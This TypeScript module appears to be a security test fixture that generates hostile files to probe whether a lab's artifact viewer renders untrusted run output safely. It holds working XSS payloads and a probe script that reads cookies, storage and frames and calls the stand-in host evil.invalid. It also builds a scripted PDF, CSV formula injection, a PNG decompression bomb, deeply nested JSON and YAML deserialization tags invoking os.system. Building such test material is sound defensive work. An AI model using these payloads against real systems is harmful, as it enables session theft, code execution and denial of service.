/** Artifacts and words with which a run attacks whoever looks at it. */
import { deflateSync } from 'node:zlib';

/** Nobody's host; requests to it are noticed. */
export const EVIL = 'https://evil.invalid';

/** Says that it ran, from whatever frame, and marks the lab if it can. */
const ACT = "top.postMessage({hostile:'words',outcome:{}},'*');top.hacked=1";

/** Text that would run as markup, wherever it is shown without care. */
export const MARKUP = `<img src=x onerror="${ACT}"><script>${ACT}</script>`;

/** A link that would run where it is pressed. */
export const LINK = `javascript:${ACT}`;

/**
 * Tells the lab's window what a script got hold of: by attempt, null where it
 * was refused.  *
 * @param api - address of the lab's API
 */
const probe = (name: string, api: string): string => `(async () => {
  const outcome = {};
  const tries = {
    parent: () => String(parent.document.title),
    top: () => String(top.document.title),
    mark: () => { top.hacked = 1; return 'written'; },
    cookie: () => document.cookie,
    storage: () => String(localStorage.length),
    api: () => fetch('${api}/contents').then(answer => answer.text()),
    out: () => fetch('${EVIL}/out', { mode: 'no-cors' }).then(() => 'sent'),
    origin: () => origin === 'null' ? null : origin,
    open: () => window.open('${EVIL}/open') && 'opened',
    leave: () => { top.location = '${EVIL}/leave'; return 'left'; }
  };
  for (const [name, attempt] of Object.entries(tries)) {
    try { outcome[name] = await attempt(); } catch { outcome[name] = null; }
  }
  try { alert('hostile'); } catch {}
  top.postMessage({ hostile: '${name}', outcome }, '*');
})()`;

function crc(bytes: Buffer): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit++) {
      sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
    }
  }
  return ~sum >>> 0;
}

function chunk(kind: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
  const ends = Buffer.alloc(8);
  ends.writeUInt32BE(data.length, 0);
  ends.writeUInt32BE(crc(named), 4);
  return Buffer.concat([ends.subarray(0, 4), named, ends.subarray(4)]);
}

/** A few kB of PNG that unpack to 256 MB. */
function imageBomb(side: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head[8] = 1;
  const rows = Buffer.alloc(side * (1 + Math.ceil(side / 8)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0))
  ]);
}

/** A page of PDF whose opening runs scripts and whose whole page is a link. */
const PDF = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("${EVIL}/pdf"\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(javascript:top.hacked=1)>>>>]>>endobj
trailer<</Root 1 0 R>>`;

/** Of a model whose every word is markup. */
const WORDS = `artifact_path: ${JSON.stringify(MARKUP)}
flavors:
  python_function:
    loader_module: ${JSON.stringify(MARKUP)}
    python_version: ${JSON.stringify(MARKUP)}
  sklearn:
    sklearn_version: ${JSON.stringify(MARKUP)}
signature:
  inputs: ${JSON.stringify(JSON.stringify([{ name: MARKUP, type: 'double' }]))}
`;

/** Of a model that is made of tags. */
const TAGS = `artifact_path: tags
flavors:
  sklearn:
    sklearn_version: !!js/function "function () { ${ACT} }"
    pickled: !!python/object/apply:os.system ["exit"]
`;

/**
 * Path of an artifact -> its bytes.
 *
 * @param api - address of the lab's API
 */
export function hostileFiles(api: string): Record<string, string | Buffer> {
  return {
    'page.html': `<base href="${EVIL}/"><body onload="top.hacked=1">
<script>${probe('page.html', api)}</script><img src="image" onerror="top.hacked=1">
<iframe srcdoc="<script>top.hacked=1;fetch('${api}/contents')</script>"></iframe>
<iframe name="inner"></iframe><form id=f action="form" target="inner"></form>
<script>f.submit()</script>a hostile page</body>`,
    'picture.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="top.hacked=1">
<script><![CDATA[${probe('picture.svg', api)}]]></script><circle r="20"/><image href="${EVIL}/image"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${api}/contents"/></foreignObject></svg>`,
    'table.csv': `a,b\n"=HYPERLINK(""${EVIL}"")","${MARKUP.replace(/"/g, '""')}"\n`,
    'deep.json': `${'['.repeat(20000)}${']'.repeat(20000)}`,
    'words.json': JSON.stringify({ [MARKUP]: MARKUP }),
    'notes.md': `# notes\n\n${MARKUP}\n\n[press](${LINK})\n`,
    'paper.pdf': PDF,
    'bomb.png': imageBomb(8000),
    'model/MLmodel': WORDS,
    'tags/MLmodel': TAGS
  };
}
